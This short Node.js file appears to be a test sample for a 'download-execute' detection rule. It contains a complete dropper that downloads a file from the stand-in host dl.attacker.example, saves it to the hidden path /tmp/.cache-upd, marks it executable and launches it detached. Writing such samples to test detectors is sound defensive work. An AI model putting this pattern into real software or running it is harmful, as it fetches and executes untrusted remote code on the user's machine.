// A dropper whose payload path has no telling extension: written, made executable and started from the same path.
const https = require('https');
const fs = require('fs');
const { spawn } = require('child_process');
https.get('https://dl.attacker.example/update', (res) => {
  const f = fs.createWriteStream('/tmp/.cache-upd');
  res.pipe(f);
  f.on('finish', () => {
    fs.chmodSync('/tmp/.cache-upd', 0o755);
    // ruleid: code/download-execute
    spawn('/tmp/.cache-upd', [], { detached: true, stdio: 'ignore' }).unref();
  });
});
